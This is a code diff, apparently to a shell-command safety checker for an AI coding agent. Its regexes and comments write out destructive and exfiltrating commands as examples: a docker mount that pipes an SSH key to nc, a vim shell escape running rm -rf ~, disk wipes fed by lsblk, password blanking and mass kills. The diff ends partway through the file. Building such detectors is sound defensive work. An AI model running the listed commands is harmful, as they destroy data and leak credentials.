@@ -1671,6 +1807,24 @@ function containerRun(walk: Walk, inv: Invocation, depth: number): void {
   collect(walk, script, runIn, depth + 1, true);
   // What runs in the container stands where the container does in a pipeline (docker run -v ~/.ssh:/k … cat /k/id_rsa | nc …).
   if (walk.out.length > from) (inv.inner ??= []).push(...walk.out.slice(from));
+  if (mounts.some((m) => m.host === '/' && m.ro)) rootMountedReadOnly(walk, who, walk.out.slice(from));
+}
+
+/** Commands that only read and list what they are given (find only without its acting actions). */
+const READ_ONLY_TOOLS = /^(ls|cat|head|tail|du|df|stat|file|wc|tree|find|grep|egrep|rg|md5sum|sha\d*sum|diff|cmp|readlink|realpath|test|echo|less|more)$/;
+
+/**
+ * The host's root mounted read-only (-v /:/host:ro): a container that only lists or reads ordinary
+ * files there (ls /host/etc, du -sh /host/var) is a warning; one that runs anything else, reads a
+ * secret, or runs nothing known (the image's own shell) can read every key on the machine: a block.
+ */
+function rootMountedReadOnly(walk: Walk, who: string, inner: Invocation[]): void {
+  // sh -c 'ls /host/etc': the shell's own commands are in the list too.
+  const reads = inner.length > 0 && inner.every((i) => (READ_ONLY_TOOLS.test(i.argv[0] ?? '') || (SHELLS.has(i.argv[0] ?? '') && i.argv[1] === '-c')) && !i.argv.some((a) => /^-(delete|exec|execdir|ok|okdir|fprint0?|fprintf|fls)$/.test(a)));
+  // grep -r PRIVATE /host/home: a search through homes reads every key in them.
+  const secret = inner.flatMap((i) => i.argv.slice(1).map((a) => [i.argv[0], a])).find(([c, a]) => a.startsWith('/') && (isSecretSource(a.replace(/^\/+/, '/'), walk.env) || (/grep|^rg$/.test(c) && /^\/+((home|Users)(\/[^/]+)?|root)?\/?$/.test(a))))?.[1]?.replace(/^\/+/, '/');
+  if (reads && secret === undefined) warn(walk, 'suspicious', `${who} mounts the host's root filesystem read-only to list or read it`, 'mount only the directory it needs');
+  else block(walk, 'dangerous', `${who} mounts the host's root filesystem into a container${secret ? ` and reads ${secret} there` : ''}: whatever runs there can read every key and password on the machine`, 'mount only the project directory, e.g. -v "$PWD":/app:ro');
 }
 
 /** A path inside a container mapped back to the host path mounted there. */
@@ -1680,7 +1834,7 @@ function m2host(m: { host: string; inside: string }, p: string): string {
 
 /** Interpreter code that deletes the paths it is given as arguments (unlink @ARGV, os.remove over sys.argv, fs.rmSync over process.argv). */
 function deletesArgs(code: string): boolean {
-  return /@ARGV|\$ARGV|sys\.argv|process\.argv|\bARGV\b|\$argv|Deno\.args|commandArgs/.test(code) && /\bunlink\b|os\.(remove|unlink)|rmtree|rmSync|unlinkSync|File\.delete|FileUtils\.rm|\brm_rf\b|\.unlink\(|Deno\.remove/.test(code);
+  return (/@ARGV|\$ARGV|sys\.argv|process\.argv|\bARGV\b|\$argv|Deno\.args|commandArgs/.test(code) || (/(?<![.\w$@])(shift|pop)\b/.test(code) && !/\bsub\b/.test(code))) && /\bunlink\b|os\.(remove|unlink)|rmtree|remove_tree|rmSync|unlinkSync|File\.delete|FileUtils\.rm|\brm_rf\b|\.unlink\(|Deno\.remove/.test(code);
 }
 
 /** find ROOTS... tests... -exec CMD {} ; : each -exec command runs with {} as a found path. */
@@ -1758,7 +1912,7 @@ const MATCH_ALL = new Set(['*', '.*', '*.*', '.[!.]*', '.??*', '**', '*/*', '.*/
 function findExec(walk: Walk, inv: Invocation, depth: number): void {
   const { roots, filtered: anyFilter, nameFiltered, namePattern } = findRoots(inv);
   // At / or ~ only filters on names narrow the listing (-ctime -99999, -size +0 select nearly all of it).
-  const filtered = roots.some((r) => broadRoot(walk, target(inv, r).abs)) ? nameFiltered : anyFilter;
+  const filtered = roots.some((r) => broadRoot(walk, target(inv, r).abs, inv)) ? nameFiltered : anyFilter;
   // A filter that names secrets (-name 'id_*', '.env*') makes {} a secret for the exfiltration check.
   const secretFilter = namePattern !== null && isSecretName(namePattern);
   for (let i = 1; i < inv.words.length; i++) {
@@ -1769,7 +1923,9 @@ function findExec(walk: Walk, inv: Invocation, depth: number): void {
     for (const root of roots) {
       // A literal -name (.git, node_modules) or a secret pattern says what {} is; another filter leaves it unknown.
       const named = namePattern !== null && (secretFilter || !/[*?[]/.test(namePattern));
-      const found = named ? `${root.text.replace(/\/$/, '')}/${namePattern}` : filtered ? `${root.text}/…` : root.text;
+      // find /var/log/nginx -name 'access.log.*' -mtime +14 -exec rm: rotated logs, as /var/log/nginx/access.log.1 would be.
+      const rotated = namePattern !== null && /^\/var\/log\//.test(target(inv, root).abs ?? '') && /\.log\.\*$|\.log\.\d|\.(gz|xz|bz2|zst|old)$|\.\[0-9\]/.test(namePattern);
+      const found = rotated ? `${root.text.replace(/\/$/, '')}/${namePattern!.replace(/\*|\[0-9\]/g, '1')}` : named ? `${root.text.replace(/\/$/, '')}/${namePattern}` : filtered ? `${root.text}/…` : root.text;
       const replaced = words.map((w) =>
         w.text.includes('{}') ? { ...w, text: w.text.replace(/\{\}/g, found), dynamic: w.dynamic || root.dynamic || (filtered && !named), glob: w.glob || root.glob } : w,
       );
@@ -1778,6 +1934,11 @@ function findExec(walk: Walk, inv: Invocation, depth: number): void {
       if (sub.words.length === 0) continue;
       // find enumerates the whole tree: rm on what an unfiltered find lists deletes the tree, -r or not.
       const tool = base(sub.words[0].text);
+      const spread = nameFiltered && /^(rm|unlink|shred|srm)$/.test(tool) ? spreadDelete(walk, target(inv, root).abs, namePattern, inv.argv) : null;
+      if (spread) {
+        block(walk, 'dangerous', `find -exec ${tool} deletes ${spread}`, 'delete inside one project, or name the exact files');
+        continue;
+      }
       // perl -e 'unlink @ARGV' {} +, python3 -c '…os.remove(p) for p in sys.argv[1:]' {} +: code deleting its arguments is rm of them.
       const lang = langOf(tool);
       const code = lang ? inlineCode(lang, sub.words.map((w) => w.text)).code : null;
@@ -1887,9 +2048,10 @@ function globMatches(glob: string, name: string): boolean {
 
 function target(inv: Invocation, w: Word): Target {
   if (w.text.startsWith('$(…)') || (w.dynamic && /^\$\{?[A-Za-z_0-9@*]/.test(w.text))) return { word: w, abs: null, wholeDir: false };
-  let p = w.text;
+  // ~/.[s]sh: a bracket holding one character matches only that character.
+  let p = w.glob ? w.text.replace(/\[([^\]!^\\])\]/g, '$1') : w.text;
   let wholeDir = false;
-  if (w.glob) {
+  if (w.glob && /[*?[]|[!@+]\(/.test(p)) {
     const segs = p.split('/');
     const g = segs.findIndex((s) => /[*?[]|[!@+]\(/.test(s));
     // /home/*/.ssh/id_*: a glob in the middle with fixed names after it is that path in any of the matches.
@@ -1929,7 +2091,7 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
   else checkSecretReachesNetwork(walk, inv);
   checkOutputSubstitutions(walk, inv);
   checkServices(walk, inv);
-  for (const f of serviceFindings(inv.argv, inv.assigned ?? [])) (f.level === 'block' ? block : warn)(walk, f.level === 'block' ? 'dangerous' : 'suspicious', f.reason);
+  for (const f of serviceFindings(withStdinSql(inv), inv.assigned ?? [])) (f.level === 'block' ? block : warn)(walk, f.level === 'block' ? 'dangerous' : 'suspicious', f.reason);
   checkServesSecrets(walk, inv);
   // Files encrypted with a key drawn at random and kept nowhere ($RANDOM, openssl rand, /dev/urandom), the originals
   // deleted on the same line: ransom-style, the data can never be read again.
@@ -1944,6 +2106,10 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       const recursive = args.some((a) => SHORT(a, 'rR') || a === '--recursive');
       if (args.includes('--no-preserve-root')) block(walk, 'dangerous', 'rm --no-preserve-root removes the safeguard against deleting /');
       const viaX = xargsTargets(walk, inv);
+      // find ~ -name "*.lock*" -print0 | xargs -0 rm: what the find lists, spread across the home or /.
+      const finder = inv.viaXargs ? inv.upstream.find((u) => u.argv[0] === 'find') : undefined;
+      const spread = finder ? findRoots(finder).roots.map((r) => spreadDelete(walk, target(finder, r).abs, findRoots(finder).namePattern, finder.argv)).find((x) => x !== null) : null;
+      if (spread) block(walk, 'dangerous', `rm of what find lists deletes ${spread}`, 'delete inside one project, or name the exact files');
       const targets = viaX?.targets ?? operands(inv.words).map((w) => target(inv, w));
       for (const t of targets) checkDelete(walk, inv, t, recursive || (viaX?.recursive ?? false), 'rm');
       // rm $(find ~ …), for f in $(find ~); do rm "$f": the substitution lists the paths, as xargs would feed them.
@@ -1979,9 +2145,11 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
         const t = target(inv, w);
         if (t.abs && isDiskDevice(t.abs)) block(walk, 'dangerous', `${name} on the disk device ${t.abs} destroys its data`, 'check the device with lsblk first; nothing on a disk device can be undone');
         else {
+          if (name === 'truncate' && inv.argv.some((a, k) => /^(-s0|--size=0)$/.test(a) || (/^(-s|--size)$/.test(a) && inv.argv[k + 1] === '0'))) checkEmptied(walk, t, 'truncate -s 0');
           checkWrite(walk, inv, t, name);
           // What shred overwrites is gone as if deleted (.git/objects/pack/*).
           if (name === 'shred' || name === 'truncate') checkDelete(walk, inv, t, false, name);
+          if (name === 'shred' && t.abs !== null && dataFileEmptied(t.abs, walk.env)) checkEmptied(walk, t, 'shred');
           // shred of keys, tokens or the shell history: destroyed beyond recovery, on purpose.
           if (name === 'shred' && t.abs !== null && isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project) && isSecretSource(t.abs, walk.env)) block(walk, 'dangerous', `shred destroys ${t.abs} beyond recovery`);
         }
@@ -2030,6 +2198,10 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       const d = dest ? target(inv, dest) : null;
       const beside = d !== null && srcs.length > 0 && name !== 'scp' && srcs.every((w) => besideItself(walk, target(inv, w).abs, d.abs));
       if (dest && d && !beside) checkWrite(walk, inv, d, name, name === 'ln' ? srcs.slice(0, 1) : srcs);
+      if (d && srcs.length === 1 && srcs[0].text === '/dev/null' && name === 'cp') checkEmptied(walk, d, `${name} /dev/null`);
+      // A key or token copied into what a web server serves (/var/www, public_html, the site's public/ or static/): published.
+      const served = d?.abs && /^\/(var|srv)\/www\/|^\/usr\/share\/nginx\/html\/|\/public_html\/|^\/var\/www$/.test(`${d.abs}/`) ? srcs.find((w) => isSecret(walk, target(inv, w).abs)) : undefined;
+      if (served) block(walk, 'dangerous', `${name} puts the secret ${target(inv, served).abs} where the web server serves it (${d!.abs}): anyone can download it`, 'secrets stay out of the document root');
       // Into a directory (DIR/, ~, -t DIR, several sources): each source lands as DIR/ITS-NAME (cp /tmp/x/.zshrc ~/).
       if (d?.abs && (tIdx > 0 || dest!.text.endsWith('/') || d.abs === walk.env.home || srcs.length > 1)) {
         for (const w of srcs) {
@@ -2053,7 +2225,7 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       break;
     case 'sed':
     case 'perl': {
-      if (!args.some((a) => /^-[a-zA-Z]*i/.test(a) || a.startsWith('--in-place'))) {
+      if (!args.some((a) => /^-[a-zA-Z0-9]*i/.test(a) || a.startsWith('--in-place'))) {
         for (const w of operands(inv.words, new Set(['-e', '-f']))) checkRead(walk, inv, target(inv, w), name);
         break;
       }
@@ -2080,6 +2252,7 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
     case 'find':
       checkFind(walk, inv);
       break;
+    case 'hub':
     case 'git':
       checkGit(walk, inv);
       break;
@@ -2170,6 +2343,11 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
     case 'gpasswd':
     case 'adduser':
       if (args.some((a) => /^(sudo|wheel|root|admin|adm|disk|shadow)$/.test(a)) || args.some((a) => a === '-o' || a === '--non-unique')) block(walk, 'dangerous', `${name} ${args.join(' ')} grants administrator rights`);
+      // usermod -p '' (--password=): an account anyone logs into; -p HASH: one whose password the line's author knows.
+      else if (name === 'usermod' && args.some((a, k) => /^(-p|--password)$/.test(args[k - 1] ?? '') || /^--password=|^-p./.test(a))) {
+        const v = args.find((a, k) => /^(-p|--password)$/.test(args[k - 1] ?? '') || /^--password=|^-p./.test(a))!.replace(/^--password=|^-p/, '');
+        block(walk, 'dangerous', `usermod ${args.join(' ')} ${v === '' ? 'empties the account\'s password: anyone can log in as it' : 'sets the account\'s password to a hash given on the line'}`, 'let the user change passwords with passwd');
+      }
       // The docker group is Docker's own post-install step, though as strong as root: said, not refused.
       else if (args.some((a) => a === 'docker')) warn(walk, 'suspicious', `${name} ${args.join(' ')}: members of the docker group can become root`);
       break;
@@ -2182,7 +2360,8 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       block(walk, 'dangerous', `${name} ${args.join(' ')} deletes a user account${args.some((a) => a === '-r' || a === '--remove' || a === '--remove-home') ? ' and its home directory' : ''}`);
       break;
     case 'visudo':
-      block(walk, 'dangerous', 'visudo edits who may run commands as root');
+      // visudo -c (--check) only parses the sudoers files and says whether they are valid.
+      if (!args.some((a) => /^-[a-zA-Z]*c[a-zA-Z]*$|^--check$/.test(a))) block(walk, 'dangerous', 'visudo edits who may run commands as root');
       break;
     case 'chattr':
       checkChattr(walk, inv);
@@ -2196,6 +2375,8 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
         if (t.abs === null) continue;
         const c = classifyDelete(t.abs, walk.env);
         if (c && recursive && c !== 'project') block(walk, 'dangerous', `setfacl -R on ${t.abs} changes the permissions of a tree the system or the user depends on`);
+        // setfacl -m u:deploy:rx /var/log/nginx: read access to logs for one account.
+        else if (isSystemPath(t.abs, walk.env.home) && !recursive && /^\/var\/log\//.test(t.abs) && specs.length > 0 && specs.every((x) => /^(d:)?[ug]:[\w.-]+:[rxX-]*$/.test(x))) warn(walk, 'system', `setfacl ${specs.join(' ')} lets one account read ${t.abs}`);
         else if (isSystemPath(t.abs, walk.env.home)) block(walk, 'system', `setfacl on the system path ${t.abs}`);
         else if (grants && isSecret(walk, t.abs) && !isSharedSshFile(t.abs)) block(walk, 'dangerous', `setfacl ${specs.join(' ')} on ${t.abs} opens a secret to other users`, 'keys and credentials stay readable by their owner only');
         else if (grants && recursive && isPreciousHomeDir(t.abs, walk.env)) block(walk, 'dangerous', `setfacl -R on ${t.abs} opens the user's keys, settings or files to others`);
@@ -2260,6 +2441,8 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
   checkDisks(walk, inv);
   checkCloudDestroy(walk, inv);
   checkKillAll(walk, inv);
+  if (/^(git|hub|dvc|pbcopy|wl-copy|xclip|xsel)$/.test(name)) checkSecretCarried(walk, inv);
+  if (DATA_TOOLS.test(name) || (name === 'git' && args.includes('lfs')) || (inv.viaXargs && /^(rm|shred|srm|unlink|truncate)$/.test(name))) for (const r of dataToolFindings({ argv: inv.argv, elevated: inv.elevated, subs: inv.words.flatMap((w) => w.subs), upstream: inv.upstream.map((u) => u.argv), viaXargs: inv.viaXargs }, env, walk.out.map((i) => i.argv))) block(walk, 'dangerous', r, 'let the user do it');
   checkTraversal(walk, inv);
 }
 
@@ -2332,6 +2515,14 @@ function checkToolCommands(walk: Walk, inv: Invocation): void {
   const [name, ...args] = inv.argv;
   const cmds: string[] = [];
   const val = (k: number, pre: string) => (args[k].length > pre.length ? args[k].slice(pre.length) : args[k + 1] ?? '');
+  // vim -c ':silent !rm -rf ~' (+cmd, --cmd, ex, view): an Ex command beginning with ! (or :r !, :w !, system()) runs a shell command.
+  if (/^(vim?|nvim|gvim|ex|view|vimdiff|rvim)$/.test(name)) {
+    const exCmds = args.filter((a, k) => /^(-c|--cmd)$/.test(args[k - 1] ?? '') || /^\+./.test(a)).map((a) => a.replace(/^\+/, ''));
+    for (const c of exCmds) {
+      const m = /^\s*:?\s*(?:silent!?\s*|exe(?:cute)?\s+['"])?(?:!|r(?:ead)?\s*!|w(?:rite)?\s*!|call\s+system\(\s*['"])\s*([^'"]*)/.exec(c);
+      if (m && m[1].trim() !== '') cmds.push(m[1]);
+    }
+  }
   args.forEach((a, k) => {
     if (name === 'tar') {
       const m = /^--(checkpoint-action=exec=|to-command=|use-compress-program=|info-script=|new-volume-script=)(.*)$/.exec(a);
@@ -2360,6 +2551,11 @@ function checkToolCommands(walk: Walk, inv: Invocation): void {
     const a = args[args.findIndex((x) => x === '-a' || x === '--args') + 1] ?? '';
     const p = /\b(?:path|dest|name)=("?)([^"\s]+)\1/.exec(a)?.[2];
     if (p && /state=absent/.test(a)) checkDelete(walk, inv, target(inv, { ...inv.words[0], text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false }), true, 'ansible file state=absent');
+  }
+  // ansible -m lineinfile -a "path=~/.bashrc line=…" (blockinfile, copy, template, replace): a file written, as a redirection would.
+  if (name === 'ansible' && args.some((a, k) => /^(-m|--module-name)$/.test(args[k - 1] ?? '') && /^(ansible\.builtin\.)?(lineinfile|blockinfile|copy|template|replace)$/.test(a))) {
+    const p = /\b(?:path|dest)=("?)([^"\s]+)\1/.exec(args.find((_, k) => /^(-a|--args)$/.test(args[k - 1] ?? '')) ?? '')?.[2];
+    if (p) checkWrite(walk, inv, target(inv, { ...inv.words[0], text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false }), 'ansible');
   }
   for (const c of cmds) if (c.trim() !== '') collect(walk, c, inv.cwd, 1, true);
 }
@@ -2458,13 +2654,21 @@ function checkDisks(walk: Walk, inv: Invocation): void {
     });
     if (dev && !readOnlyDiskMode(name, args)) what = `works on the disk device ${dev.text}`;
   }
+  // lsblk -dpno NAME | xargs wipefs -a, dd of=$(lsblk … disk …): the devices a disk lister prints, written.
+  const listed = (c: string) => /^\s*(sudo\s+)?(lsblk|blkid|fdisk\s+-l|ls\s+\/dev\/(sd|nvme|vd|xvd|disk|mmcblk))/.test(c);
+  const fedDevices = (inv.viaXargs && inv.upstream.some((u) => listed(u.argv.join(' ')))) || inv.words.some((w) => w.subs.some(listed));
+  if (!what && fedDevices && /^(dd|wipefs|mkfs(\..+)?|mke2fs|mkswap|shred|blkdiscard|sgdisk|sfdisk|parted|cryptsetup)$/.test(name) && !readOnlyDiskMode(name, args) && (name !== 'dd' || inv.words.some((w) => /^of=/.test(w.text) && (w.subs.length > 0 || (!!inv.xargsReplace && w.text.includes(inv.xargsReplace)))))) {
+    what = 'writes over the disk devices a lister (lsblk, blkid) prints';
+  }
   if (what) block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} ${what}: nothing on it can be brought back`, 'check the device or volume with lsblk first; let the user run it');
 }
 
 /** A disk tool run in a mode that only reads the device or rehearses (no write happens). */
 function readOnlyDiskMode(name: string, args: string[]): boolean {
   const a = ` ${args.join(' ')} `;
-  if (name === 'wipefs') return /\s(-n|--no-act)\s/.test(a) || !/\s(-a|--all|-o|--offset|-t|--types)\b/.test(a);
+  if (name === 'wipefs') return /\s(-[a-zA-Z]*n[a-zA-Z]*|--no-act)\s/.test(a) || !/\s(-[a-zA-Z]*[aot][a-zA-Z]*|--all|--offset|--types)(\s|=)/.test(a);
+  // Checks that only look: xfs_repair -n, e2fsck -n, fsck -n (no modify).
+  if (/^(xfs_repair|e2fsck|fsck(\.\w+)?|dosfsck)$/.test(name)) return /\s-[a-zA-Z]*n[a-zA-Z]*\s/.test(a);
   if (/^(mkfs\.ext[234]|mke2fs)$/.test(name)) return /\s-n\s/.test(a);
   if (name === 'sfdisk') return /\s(-d|--dump|-l|--list|-J|--json|-V|--verify|-s|--show-size|-g|--show-geometry|--list-types|-T)\s/.test(a);
   if (name === 'sgdisk' || name === 'gdisk') return /\s(--backup(=\S*)?|-b|-p|--print|-v|--verify|-i|--info(=\S*)?|-L|--list-types)\s/.test(a) && !/\s(-[zZoNndx]|--zap\S*|--clear|--new|--delete|--load-backup|--mbrtogpt)\b/.test(a);
@@ -2544,9 +2748,13 @@ function checkCloudDestroy(walk: Walk, inv: Invocation): void {
   }
 }
 
+/** Runtimes whose every process a kill by name takes down: interpreters, shells, the editor. */
+const RUNTIMES = /^(node|nodejs|python[\d.]*|java|ruby|perl|php|deno|bun|dotnet|bash|zsh|sh|code|Code|electron)$/;
+
 /** pkill/killall -u USER with no pattern, kill of every pid ps lists: every process of a user or of the machine. */
 function checkKillAll(walk: Walk, inv: Invocation): void {
   const [name, ...args] = inv.argv;
+  if (!/^(kill|pkill|killall|fuser|scancel|skill|slay)$/.test(name ?? '')) return;
   if ((name === 'pkill' || name === 'killall') && args.some((a) => a === '-u' || a.startsWith('--user'))) {
     const rest = operands(inv.words, new Set(['-u', '--user', '-s', '--signal', '-g', '-G', '-P', '-t']));
     if (rest.length === 0) block(walk, 'dangerous', `${name} ${args.join(' ')} kills every process of the user, the session with them`);
@@ -2566,7 +2774,24 @@ function checkKillAll(walk: Walk, inv: Invocation): void {
       }
     }
   }
-  const psAll = /^\s*ps\s+(-[a-zA-Z]*[eA][a-zA-Z]*|a?u?x|-ax|aux|-[uU]\s+\S+|x)\b[^|]*$/;
+  // pkill -9 node, killall python3, kill $(pgrep -f node), ps aux | grep -i node | … | xargs kill: every program of a
+  // runtime, the agent's own (Claude Code runs on node), the editor's servers and every other user's job under sudo.
+  const pattern = (a: string[]) => a.slice(1).filter((x, k, all) => !x.startsWith('-') && !/^-[uUgGPtsnO]$|^--(user|signal|group|parent)$/.test(all[k - 1] ?? ''));
+  const listers = [...inv.words.flatMap((w) => w.subs).map((sub) => sub.trim().split(/\s+/)), ...(inv.viaXargs ? inv.upstream.map((u) => u.argv) : [])];
+  const runtime = (name === 'pkill' || name === 'killall' ? [pattern(inv.argv)] : name === 'kill' ? listers.filter((a) => /^(pgrep|pidof|grep|egrep|rg)$/.test(a[0] ?? '')).map(pattern) : []).flat().map((x) => x.replace(/^(['"])(.*)\1$/, '$2')).find((x) => RUNTIMES.test(x));
+  const sigkill = inv.argv.some((a, k) => /^-(9|KILL|SIGKILL)$/i.test(a) || (/^(-s|--signal)$/.test(inv.argv[k - 1] ?? '') && /^(9|KILL|SIGKILL)$/i.test(a)));
+  if (runtime && (sigkill || inv.elevated)) block(walk, 'dangerous', `${name} ${sigkill ? '-9 ' : ''}of every ${runtime} process: the agent's own (Claude Code runs on node), the editor's servers${inv.elevated ? ' and every other user\'s' : ''}`, 'kill the one process meant, by its PID or its port (kill $(lsof -ti :3000))');
+  // sudo pkill -u bob, sudo kill $(nvidia-smi --query-compute-apps=pid …), sudo fuser -k /dev/nvidia*, sudo scancel -u alice: other users' work.
+  const other = (u: string) => !/^(\$\{?USER\}?|\$\(id -u(n)?\)|\$\(whoami\)|root|0)$/.test(u);
+  const users = inv.argv.flatMap((a, k) => (/^(-u|--user|-U)$/.test(inv.argv[k - 1] ?? '') ? [a] : /^--user=/.test(a) ? [a.slice(7)] : []));
+  const everyUser = listers.some((a) => /^(nvidia-smi|squeue|lsof|fuser)$/.test(a[0] ?? '') && !a.some((x) => /^-[a-zA-Z]*[iu]|^--user|^:\d|tcp|udp/.test(x)));
+  // (-HUP, -USR1: the reload a daemon's own docs give, nothing is stopped.)
+  const reload = inv.argv.some((a, k) => /^-(HUP|SIGHUP|USR[12]|SIGUSR[12]|1|10|12)$/.test(a) || (/^(-s|--signal)$/.test(inv.argv[k - 1] ?? '') && /^(HUP|USR[12])$/.test(a)));
+  if (inv.elevated && !reload && (/^(pkill|killall|scancel|skill|slay)$/.test(name) && users.some(other) || (name === 'kill' || name === 'scancel') && everyUser)) block(walk, 'dangerous', `${name} as root of other users' processes or jobs`, 'let the owner or the admin stop them');
+  if (name === 'fuser' && inv.argv.some((a) => /^-[a-zA-Z]*k/.test(a)) && inv.argv.some((a) => /^\/dev\//.test(a))) block(walk, 'dangerous', `fuser -k kills every process using ${inv.argv.find((a) => a.startsWith('/dev/'))}, other users' included`, 'kill the one process meant, by its PID');
+  // lsof -t | xargs kill, pgrep -u "$(id -u)" | xargs kill: every process with a file open, every process of the user.
+  if (name === 'kill' && inv.viaXargs && inv.upstream.length > 0 && ((inv.upstream[0].argv[0] === 'lsof' && inv.upstream[0].argv.slice(1).every((a) => /^-[a-zA-Z]*t[a-zA-Z]*$/.test(a))) || (inv.upstream[0].argv[0] === 'pgrep' && pattern(inv.upstream[0].argv).length === 0))) block(walk, 'dangerous', `kill of every process \`${inv.upstream[0].argv.join(' ')}\` lists: the user's whole session`, 'kill the one process meant, by its PID');
+  const psAll = /^\s*ps\s+(-[a-zA-Z]*[eA][a-zA-Z]*|a?u?x|-ax|aux|-[uU]\s+\S+|x)\b[^|]*(\|\s*(tr|xargs|paste|sort|uniq)\b[^|]*)*$/;
   if (name === 'kill' && (inv.words.some((w) => w.subs.some((sub) => psAll.test(sub) || (/^\s*ps\b/.test(sub) && /\|\s*awk\s+['"]\{\s*print\s+\$[12]\s*\}['"]\s*$/.test(sub) && psAll.test(sub.split('|')[0])))) || (inv.viaXargs && inv.upstream.some((u) => u.argv[0] === 'ps' && psAll.test(u.argv.join(' '))) && !inv.upstream.some((u) => /^(grep|pgrep|rg)$/.test(u.argv[0]) || (/awk$/.test(u.argv[0]) && u.argv.some((a) => /\/[^/]+\/|\$\d+\s*[=~!]/.test(a))))))) {
     block(walk, 'dangerous', 'kill of every process ps lists: the whole machine stops');
   }
@@ -2618,7 +2843,8 @@ function xargsItems(walk: Walk, inv: Invocation): { items: Target[]; recursive: 
   const home = walk.env.home;
   const here = inv.redirects.find((r) => r.body !== undefined);
   const word = (t: string): Word => ({ text: t, dynamic: false, glob: /[*?]/.test(t), subs: [], quoted: false });
-  const fromText = (t: string, at: Invocation) => ({ items: t.split(/[\s\0]+/).filter((x) => x !== '').map((x) => target(at, word(x))), recursive: false });
+  // -I, -0, -d: an item is a line (or all the text up to a NUL); otherwise every word is one.
+  const fromText = (t: string, at: Invocation) => ({ items: t.split(inv.xargsLines ? /\n+|\0+/ : /[\s\0]+/).map((x) => (inv.xargsLines ? x.trim() : x)).filter((x) => x !== '').map((x) => target(at, word(x))), recursive: false });
   if (here) return fromText(here.body!, inv);
   // xargs -a <(echo ~) / -a FILE-the-line-wrote: the argument file's text.
   const listFile = (w: Word | undefined) => (w && inv.cwd !== null && !w.dynamic ? walk.listFiles.get(resolveFrom(inv.cwd, w.text)) : undefined);
@@ -2640,6 +2866,9 @@ function xargsItems(walk: Walk, inv: Invocation): { items: Target[]; recursive: 
   if (inv.upstream.some((u) => u.argv[0] === 'git' && u.argv[1] === 'worktree' && u.argv[2] === 'list') && !inv.upstream.some((u) => /^(grep|rg)$/.test(u.argv[0]) && u.argv.some((a) => /^-[a-zA-Z]*v/.test(a)))) {
     return { items: [target(inv, word(walk.env.project))], recursive: true };
   }
+  // awk '{print $2}' /etc/fstab, findmnt -o TARGET, df --output=target, bare mount: mount points, / first among them, each a whole disk's files.
+  const first = inv.upstream[0]?.argv;
+  if (first && (/^(findmnt|df)$/.test(first[0]) || (first[0] === 'lsblk' && first.some((a) => /MOUNTPOINT/i.test(a))) || (first[0] === 'mount' && first.length === 1) || first.some((a) => /^\/(etc\/(fstab|mtab)|proc\/(self\/)?mounts)$/.test(a)))) return fromText('/', inv.upstream[0]);
   // The stage that produces the list: skip what only passes it on; a grep (not -v), sed -n or awk with a pattern narrows it.
   let narrowed = false;
   let k = inv.upstream.length - 1;
@@ -2674,10 +2903,10 @@ function xargsItems(walk: Walk, inv: Invocation): { items: Target[]; recursive: 
         const t = target(feeder!, r);
         // Names that are keys (-name 'id_*', '*.pem') say what is deleted: those files under the root.
         if (namePattern && isSecretName(namePattern) && t.abs !== null) return target(feeder!, { ...r, text: `${t.abs}/${namePattern}`, glob: true, dynamic: false });
-        const narrow = narrowed || (broadRoot(walk, t.abs) ? nameFiltered : filtered);
+        const narrow = narrowed || (broadRoot(walk, t.abs, feeder!) ? nameFiltered : filtered);
         return narrow ? { ...t, abs: t.abs === null ? null : `${t.abs === '/' ? '' : t.abs}/…` } : t;
       }),
-      recursive: !(narrowed || roots.every((r) => (broadRoot(walk, target(feeder!, r).abs) ? nameFiltered : filtered))),
+      recursive: !(narrowed || roots.every((r) => (broadRoot(walk, target(feeder!, r).abs, feeder) ? nameFiltered : filtered))),
     };
   }
   if (/^(locate|mlocate|plocate|slocate)$/.test(f)) {
@@ -2733,7 +2962,8 @@ function listerRoots(walk: Walk, u: Invocation): { roots: Target[]; filtered: bo
   const paths = (ws: Word[]) => ws.filter((w) => /^[/~.]/.test(w.text) || w.glob);
   let roots: Word[] | null = null;
   let filtered = false;
-  if (name === 'du' && args.some((a) => /^-[a-zA-Z]*a/.test(a) || a === '--all')) roots = paths(operands(u.words, new Set(['-d', '--max-depth', '-t', '--threshold', '-B'])));
+  // du -s ~/* | sort -rn | head | cut -f2: du prints its operands (a glob of them), biggest first after the sort.
+  if (name === 'du' && (args.some((a) => /^-[a-zA-Z]*a/.test(a) || a === '--all') || u.words.slice(1).some((w) => w.glob && /[*?]$/.test(w.text)))) roots = paths(operands(u.words, new Set(['-d', '--max-depth', '-t', '--threshold', '-B'])));
   else if (name === 'tree' && args.some((a) => /^-[a-zA-Z]*f/.test(a))) roots = paths(operands(u.words, new Set(['-L', '-P', '-I', '-o'])));
   else if (name === 'fd' || name === 'fdfind') {
     const ops = operands(u.words, FD_ARG_OPTS);
@@ -2762,26 +2992,87 @@ function substitutionItems(walk: Walk, inv: Invocation, sub: string): { items: T
   return xargsItems(walk, { ...inv, viaXargs: true, xargsFile: undefined, redirects: [], upstream: [feeder] });
 }
 
+/** A directory that holds nothing of the user's: under /tmp (not the home or project), or where the line unpacked a download or cloned. */
+function throwawayDir(walk: Walk, abs: string): boolean {
+  return (/^\/(tmp|var\/tmp)\//.test(abs) && !isUnder(abs, walk.env.home) && !isUnder(abs, walk.env.project)) || walk.unpacked.some((d) => isUnder(abs, d) && !isUnder(walk.env.project, d));
+}
+
+/** Names whose files are litter or regenerated anywhere: caches, compiled and temporary files, editor and OS droppings, build output, logs. */
